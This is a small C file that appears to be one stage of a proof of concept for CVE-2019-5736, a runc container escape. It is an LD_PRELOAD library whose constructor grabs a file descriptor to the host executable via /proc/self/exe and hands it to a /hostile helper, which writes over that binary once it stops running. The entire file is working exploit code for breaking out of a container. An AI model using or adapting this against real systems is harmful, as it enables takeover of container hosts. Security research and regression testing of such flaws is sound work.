// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * A library that a container's image preloads (LD_PRELOAD): when a program of the host is executed with
 * the container's libraries, this runs inside it. It takes hold of that program's file and has
 * /hostile try to write to it once nobody executes it any more (CVE-2019-5736).
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
	char target[256] = "", number[16];
	int fd = open("/proc/self/exe", O_PATH);

	if (readlink("/proc/self/exe", target, sizeof(target) - 1) < 0)
		strcpy(target, "?");
	printf("inside %s\n", target);
	fflush(stdout);
	snprintf(number, sizeof(number), "%d", fd);
	execl("/hostile", "hostile", "write-through", number, (char *)NULL);
	_exit(9);
}
